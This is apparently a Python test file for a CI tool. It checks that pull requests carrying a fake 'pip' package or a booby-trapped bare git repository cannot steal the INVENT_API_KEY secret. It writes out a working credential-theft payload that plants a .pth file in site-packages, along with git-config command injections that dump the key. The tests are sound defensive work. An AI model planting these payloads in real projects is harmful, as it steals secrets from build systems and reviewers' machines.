"""Pull requests that would take the key. Each holds plain files only, and nothing below `.github/`."""

from __future__ import annotations

from pathlib import Path

from tests.branch_repository import git
from tests.engine.scenarios import green, refused
from tests.engine.world import Repository
from tests.hostile_git import plant
from tests.running import define
from tests.workflows.hostile import marks, write_hostile_names

# What `python -m pip` starts in the checkout. It leaves a line in the new environment that takes the key from each
# later step. Then it does as it was told, so that the run looks as always.
_THIEF = """\
import runpy, sys
site = next(path for path in sys.path if path.endswith("site-packages"))
with open(site + "/helper.pth", "w") as file:
    file.write("import os; 'INVENT_API_KEY' in os.environ and "
               "open({loot!r}, 'a').write(os.environ['INVENT_API_KEY'] + chr(10))\\n")
del sys.path[0], sys.modules["pip"]
runpy.run_module("pip", run_name="__main__", alter_sys=True)
"""


def a_committed_pip_does_not_run_and_takes_no_key(repository: Repository) -> None:
    loot = repository.folder / "loot"
    repository.start()
    (repository.clone / "pip").mkdir()
    (repository.clone / "pip" / "__init__.py").touch()
    (repository.clone / "pip" / "__main__.py").write_text(_THIEF.format(loot=str(loot)), encoding="utf-8")
    define(repository.clone, "spring")
    repository.open_pull(7)
    # Nobody has approved it: the guard refuses the run, in which the key is all the same.
    refused(repository.run("apply", "push", repository.merge(7)))
    assert taken(loot) == ""
    assert repository.created == []


def a_checkout_full_of_names_that_programs_look_for_is_only_data(repository: Repository) -> None:
    mark = repository.folder / "mark"
    repository.start()
    write_hostile_names(repository.clone, mark)
    define(repository.clone, "spring")
    tried = repository.open_pull(7)
    forget(mark)
    green(repository.run("plan", "pull_request", tried, pull=7))
    assert marks(mark) == []
    merged = repository.merge(7)
    forget(mark)
    green(repository.run("apply", "push", merged))
    assert marks(mark) == []
    assert repository.created == ["Campaign spring"]
    green(repository.run("drift", "schedule", merged))
    assert marks(mark) == []


def a_bare_repository_among_the_files_runs_nothing_and_takes_no_key(repository: Repository) -> None:
    loot, traces = repository.folder / "loot", repository.folder / "traces"
    repository.start("campaigns")
    define(repository.clone / "campaigns", "spring")
    _plant_thief(repository.clone / "campaigns", traces, loot)
    tried = repository.open_pull(7)
    planned = repository.run("plan", "pull_request", tried, pull=7)
    applied = repository.run("apply", "push", repository.merge(7))
    assert taken(loot) == ""
    assert list(traces.iterdir()) == []
    assert repository.created == []
    refused(planned, "Plan")
    refused(applied)
    assert "/campaigns holds files named HEAD, objects and refs" in repository.comment


def a_bare_repository_in_a_clone_runs_nothing_on_a_reviewers_machine(repository: Repository) -> None:
    traces = repository.folder / "traces"
    repository.start("campaigns")
    define(repository.clone / "campaigns", "spring")
    _plant_thief(repository.clone / "campaigns", traces, repository.folder / "loot")
    repository.open_pull(7)
    laptop = repository.folder / "laptop"
    git(repository.folder, "clone", "--quiet", str(repository.remote), str(laptop))
    git(laptop, "fetch", "--quiet", "origin", "refs/pull/7/head")
    git(laptop, "checkout", "--quiet", "FETCH_HEAD")
    for command in ("plan", "status", "history"):
        said = repository.command(laptop, "-C", "campaigns", command, good=False)
        assert list(traces.iterdir()) == [], f"{command}: {said}"


def _plant_thief(folder: Path, traces: Path, loot: Path) -> None:
    """A bare repository of several attacks, each of which writes down the key before it leaves its trace."""
    config = plant(folder, traces, "fsmonitor", "include", "ssh-command")
    text = config.read_text(encoding="utf-8")
    config.write_text(text.replace("touch ", f"printenv INVENT_API_KEY >> {loot}; touch "), encoding="utf-8")


def taken(loot: Path) -> str:
    """What the thief has: the key, and nothing else, if it could."""
    return loot.read_text(encoding="utf-8") if loot.exists() else ""


def forget(mark: Path) -> None:
    """The marks of whoever prepared the commit: git itself starts `git` by a name in the clone, for example."""
    mark.unlink(missing_ok=True)
